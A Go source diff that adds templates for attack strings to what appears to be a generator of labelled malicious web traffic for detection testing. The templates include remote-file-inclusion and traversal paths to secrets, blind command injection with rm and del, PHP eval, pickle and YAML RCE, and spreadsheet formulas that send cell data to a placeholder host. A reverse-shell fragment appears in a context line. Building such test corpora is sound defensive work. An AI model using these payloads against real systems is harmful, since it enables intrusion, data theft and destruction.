@@ -900,6 +900,205 @@ $x=New-Object System.Net.Sockets.TCPClient('«chost»',«n4»)`},
 1~<(«ccmd»)
 1~{"cmd":"«ccmd»"}
 1~@«ccmd»`},
+		// Remote files to be included: the question mark swallows what the
+		// program appends.
+		{"outhost", `
+4~«nn».1«nn».«nn».1«nn»
+3~«nn».1«nn».«nn».«nn»:80«nn»
+1~1«nn».«nn».«n».2«n»:«n4»
+2~«chost»
+1~«a6».example.net
+1~«slugnoun».example.org/~«slugname»`},
+		{"outfile", `
+4~/«a6».txt
+3~/«tok»
+2~/«a3».php
+2~/shell.txt
+1~/«a6»/«a3».jpg
+1~/c99.txt
+1~/r57.gif
+1~/id.txt
+1~/
+1~/«slugword»/cmd.txt
+1~/«a3».dat`},
+		{"ptRemote", `
+6~http://«outhost»«outfile»?
+4~http://«outhost»«outfile»
+3~http://«outhost»«outfile»??
+2~https://«outhost»«outfile»?
+1~http://«outhost»«outfile»%00
+1~http://«outhost»«outfile»?%00
+1~http://«outhost»«outfile»%3F
+1~ftp://«outhost»«outfile»
+1~ftp://«slugname»:«a6»@«outhost»«outfile»
+1~//«outhost»«outfile»?
+1~hTtP://«outhost»«outfile»?
+1~http:%2f%2f«outhost»«outfile»%3f
+1~http://«outhost»«outfile»?&cmd=id
+1~http://«outhost»«outfile»?«slugword»=
+1~\\«outhost»\«a3»\«a3».php
+1~http://«outhost»«outfile»%23`},
+		{"ptNear", `
+3~../«slugword».inc
+2~../config.php
+2~../«slugnoun»/config.inc.php
+2~../../«slugnoun».log
+1~../«slugnoun»/«slugword»
+1~..\«slugnoun».ini
+1~../../web.config
+1~./../«slugword».xml
+1~../%00
+1~../index.php%00
+1~«slugnoun».php%00
+1~WEB-INF/web.xml
+1~/WEB-INF/web.xml
+1~../WEB-INF/classes/
+1~../../../
+1~..
+1~../../.env
+1~../.git/config
+1~0x2e0x2e/0x2e0x2e/«ptFile»
+1~0x2e0x2e\0x2e0x2e\«ptFile»
+1~%%32%65%%32%65/«ptFile»
+1~.?/.?/«ptFile»
+1~..//..//«ptFile»
+1~..\/..\/«ptFile»`},
+		// Commands whose answer nobody sees: a file to make or to remove.
+		{"bsep", "4~«sq»&\n3~«sq»;\n2~«sq»|\n2~&\n1~«sq»\n1~«sq»\\n\n1~;\n1~|\n1~«sq»&&\n1~%0a\n1~∅"},
+		{"bsp", "6~ \n3~\t\n1~%0b\n1~%0c\n1~%09\n1~,\n1~\u00a0\n1~$IFS\n1~+"},
+		{"bcmd", "3~rm\n3~del\n2~ver\n2~uname\n2~touch\n1~erase\n1~type\n1~hostname\n1~ls\n1~dir\n1~id\n1~mkdir\n1~echo\n1~set\n1~env"},
+		{"cmBlind", `
+4~«bsep»«bcmd»«bsp»«a1»«n6»«bsp»#
+3~«bsep»«bcmd»«bsp»>«a1»«n6»«bsp»#
+3~«bsep»«bcmd»«bsp»«a1»«n6»
+2~«bsep»«bcmd»&rem
+2~«bsep»«bcmd»«bsp»>«a1»«n6»&rem«bsp»
+2~«bsep»«bcmd»«bsp»«a6»«bsp»&«sq»
+1~«bsep»«bcmd»«bsp»-w«bsp»«n»«bsp»«nn».«n».«n».«nn»«bsp»&
+1~«bsep»«bcmd»«bsp»/tmp/«a6»
+1~«bsep»«bcmd»«bsp»>>«bsp»/tmp/«a3»«bsp»#
+1~«bsep»«bcmd»;`},
+		{"cmPhp", `
+2~phpinfo()
+2~phpinfo();
+1~;phpinfo();
+1~assert($_POST[«a1»])
+1~assert('phpinfo()')
+1~${@print(md5(«n6»))}
+1~{${phpinfo()}}
+1~print(md5(«n6»));
+1~die(md5(«n6»))
+1~-d allow_url_include=on -d auto_prepend_file=php://input
+1~-d+allow_url_include%3don+-d+safe_mode%3doff
+1~echo(«nn»*«nn»);
+1~var_dump(«n4»+«n4»)
+1~@eval($_REQUEST['«a1»']);
+1~call_user_func('system','«ccmd»')
+1~response.write(«n4»*«n4»)
+1~print(«n4»+«n4»)
+1~gethostbyname(trim('«a6».example.net'))`},
+		// Programs in C and in spreadsheets, lines of mail, redirections.
+		{"fmt1", "%n\n%x\n%s\n%p\n%08x\n%d\n%.16705u\n%hn"},
+		{"fmts", "2~«fmt1»«fmt1»«fmt1»«fmt1»\n2~«fmt1».«fmt1».«fmt1».«fmt1»\n1~«fmts»«fmts»\n1~«fmt1»«fmt1»\n1~AAAA«fmts»\n1~«fmt1»-«fmt1»-«fmt1»\n1~%«nn»$«a1»%n"},
+		{"rep8", "4~AAAAAAAA\n1~aaaaaaaa\n1~XXXXXXXX\n1~00000000\n1~99999999\n1~%00%00%00%00\n1~........\n1~((((((((\n1~[[[[[[[["},
+		{"repA", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
+		{"rep1", "11111111111111111111111111111111111111111111111111111111111111111"},
+		{"longs", "3~«repA»«repA»«repA»\n2~«repA»«repA»«repA»«repA»«repA»«repA»«repA»«repA»\n1~«rep1»«rep1»«rep1»«rep1»\n1~«repA»«repA»«repA»«repA»«tok»\n1~«longs»«longs»\n1~«slugword»«repA»«repA»«repA»«repA»"},
+		{"oxMem", "4~«fmts»\n3~«longs»\n1~«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»"},
+		{"oxSheet", `
+1~=cmd|' /C «ccmd»'!A0
+1~=HYPERLINK("http://«chost»/?x="&A«n»,"«word»")
+1~@SUM(1+«n»)*cmd|' /C calc'!A0
+1~+cmd|'/c calc'!A«n»
+1~=IMPORTXML(CONCAT("http://«chost»/?v=",A«n»),"//a")
+1~-«n»+«n»+cmd|' /C «ccmd»'!A0
+1~=DDE("cmd";"/C calc";"«a3»")
+1~=WEBSERVICE("http://«chost»/"&A«n»)`},
+		{"oxMail", `
+3~%0aBcc:%20«slugname»@«chost»
+2~«slugname»@«slugnoun».example%0aCc:«slugname»@«chost»
+2~%0d%0aTo:%20«slugname»@«chost»%0d%0aSubject:%20«word»
+1~«word»%0aContent-Type:text/html%0a%0a<b>«word»</b>
+1~%0ABcc:«a6»@«chost»%0A%0A«word»
+1~«slugname»%0D%0ARCPT%20TO:«slugname»@«chost»%0D%0ADATA`},
+		{"oxAway", `
+2~/\«chost»
+2~https:«chost»
+2~//«chost»/%2e%2e
+1~////«chost»
+1~https:///«chost»
+1~http:/\/\«chost»
+1~\/\/«chost»/
+1~//«chost»/%2f..
+1~https://«slugnoun».example.com@«chost»/
+1~https://«slugnoun».example.com%40«chost»
+1~//«chost»%E3%80%82com
+1~/%09/«chost»
+1~/%5c«chost»
+1~javascript://«chost»/%0aalert(«n»)
+1~<>//«chost»`},
+		{"oxInclude", `
+2~<esi:include src="http://«chost»/«a3»"/>
+1~<esi:include src=/«slugword»/ stylesheet="http://«chost»/«a3».xsl"/>
+1~<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars>-->
+1~<esi:debug/>
+1~<xsl:value-of select="system-property('xsl:vendor')"/>
+1~<xsl:include href="http://«chost»/«a3».xsl"/>
+1~«a3»\nsystem\n(S'«ccmd»'\ntR.
+1~cos\nsystem\n(S'«ccmd»'\ntR.
+1~!!javax.script.ScriptEngineManager [!!java.net.URL ["http://«chost»/"]]
+1~{"__proto__":{"«slugword»":true}}
+1~{"constructor":{"prototype":{"isAdmin":true}}}
+1~constructor.prototype.«slugword»=true
+1~__proto__.«slugword»=«n»`},
+		{"xsPlain", `
+3~«brk»<meta http-equiv=set-cookie content="«a6»=«n4»">
+2~<h1>«word»</h1>
+1~<h1>«word» by «slugname»</h1>
+1~<div style="font-family:'«a3»&#10;;color:red;';">«word»
+1~<rect fill="white" style="clip-path:url(«a3».svg#a);fill:url(#b)"/>
+1~<a href="//«slugword»">«word»</a>
+1~&lt;A HREF="//«slugword»"&gt;«word»&lt;/A&gt;
+1~&#«n4»;
+1~&#0000«nn»;&#0000«nnn»;
+1~<plaintext>
+1~"><plaintext>
+1~<«a3»>«word»
+1~<xss>
+1~<u>«a6»</u>«a3»
+1~"><b>«a6»
+1~<s>«a6»
+1~<font size=«nn»>«word»</font>
+1~<b/«a3»>
+1~<xml id=«a1»><«a1»><b>«word»</b></«a1»></xml>
+1~<br size="&{«js»}">
+1~<layer src="http://«chost»/«a3».js"></layer>`},
+		{"sqOdd", `
+1~«n» like «n»
+1~«n» div 0
+1~«n»e0union select «svs»
+1~«n».union select «svs»
+1~«slugname»' #
+1~«n»' like '«n»
+1~«sq»select
+1~«slugword»«sq»select
+1~«n»'='«n»
+1~«sq»and«sq»
+1~«n»«sq»«a1»
+1~«n» mod 0
+1~«n» regexp 1
+1~«n» sounds like «n»
+1~«n»' collate «a3»--
+1~«sq» is null
+1~«n») limit 1--
+1~«n»,(select «n»)
+1~«n» as «a1»
+1~ascii(«a1»)
+1~'*«n»*'
+1~'^«n»^'
+1~'%«n»%'
+1~'|«n»|'
+1~«n»&«n»=«n»`},
 	}
 }
 
@@ -915,5 +1114,10 @@ func (p *payloads) moreTechniques(id func(string) int) {
 	add(traffic.PathTraversal, true, "ptWrap", "ptTail", "ptTail")
 	add(traffic.CommandInjection, false, "cmShort", "cmWin", "cmEvade", "cmPipe", "cmTmpl2", "cmTmpl2", "cmAbs", "cmAbs", "cmVar")
 	add(traffic.OtherAttack, false, "oxNo", "oxDir", "oxProto", "oxInner", "oxInner")
-	add(traffic.OtherAttack, false, "oxGo")
+	add(traffic.OtherAttack, false, "oxGo", "oxMem", "oxSheet", "oxInclude", "oxAway")
+	add(traffic.OtherAttack, true, "oxMail")
+	add(traffic.PathTraversal, true, "ptRemote", "ptRemote", "ptNear")
+	add(traffic.CommandInjection, false, "cmBlind", "cmBlind", "cmPhp")
+	add(traffic.XSS, false, "xsPlain")
+	add(traffic.SQLInjection, false, "sqOdd")
 }
